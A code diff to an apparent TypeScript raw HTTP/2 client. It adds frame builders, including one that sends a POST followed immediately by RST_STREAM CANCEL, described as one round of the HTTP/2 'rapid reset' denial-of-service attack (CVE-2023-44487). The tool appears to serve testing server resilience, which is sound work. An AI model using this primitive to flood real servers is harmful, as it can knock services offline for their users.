@@ -4,9 +4,9 @@
 import { connect as tlsConnect, type TLSSocket } from 'node:tls'
 
 const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
-export const FRAME = { HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, GOAWAY: 7 } as const
-const END_STREAM = 0x1
-const END_HEADERS = 0x4
+export const FRAME = { DATA: 0, HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, PING: 6, GOAWAY: 7, WINDOW_UPDATE: 8, CONTINUATION: 9 } as const
+export const END_STREAM = 0x1
+export const END_HEADERS = 0x4
 const ACK = 0x1
 
 export interface Frame {
@@ -51,6 +51,41 @@ export function headerBlock(headers: readonly (readonly [string, string])[]): Bu
 /** One HEADERS frame (END_HEADERS | END_STREAM): a request without a body. */
 export function requestFrame(stream: number, headers: readonly (readonly [string, string])[]): Buffer {
   return frame(FRAME.HEADERS, END_HEADERS | END_STREAM, stream, headerBlock(headers))
+}
+
+/** RST_STREAM with `code` (RFC 9113 §6.4). */
+export function resetFrame(stream: number, code: number): Buffer {
+  const payload = Buffer.alloc(4)
+  payload.writeUInt32BE(code, 0)
+  return frame(FRAME.RST_STREAM, 0, stream, payload)
+}
+
+/**
+ * A POST with a JSON body (HEADERS, then DATA with END_STREAM), optionally followed at once
+ * by RST_STREAM CANCEL: one round of an HTTP/2 "rapid reset" (CVE-2023-44487).
+ */
+export function postFrames(stream: number, authority: string, path: string, body: string, reset: boolean): Buffer {
+  const bytes = Buffer.from(body)
+  const headers = frame(
+    FRAME.HEADERS,
+    END_HEADERS,
+    stream,
+    headerBlock([
+      [':method', 'POST'],
+      [':scheme', 'https'],
+      [':path', path],
+      [':authority', authority],
+      ['content-type', 'application/json'],
+      ['content-length', String(bytes.length)],
+    ])
+  )
+  const data = frame(FRAME.DATA, END_STREAM, stream, bytes)
+  return reset ? Buffer.concat([headers, data, resetFrame(stream, 8)]) : Buffer.concat([headers, data])
+}
+
+/** The GOAWAY frame's error code, when the server sent one. */
+export function goawayCode(f: Frame): number {
+  return f.payload.readUInt32BE(4)
 }
 
 export class RawH2 {
